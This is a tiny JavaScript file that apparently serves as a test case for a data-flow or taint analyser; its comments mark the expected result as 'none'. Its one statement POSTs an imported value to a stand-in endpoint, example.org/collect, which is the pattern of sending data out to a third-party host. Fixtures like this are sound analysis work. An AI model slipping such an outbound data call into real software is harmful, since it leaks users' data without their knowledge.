// Twin: the name leads to another variable.
// $ none
import { where } from "./lib/index.js";

fetch("https://example.org/collect", { method: "POST", body: where });
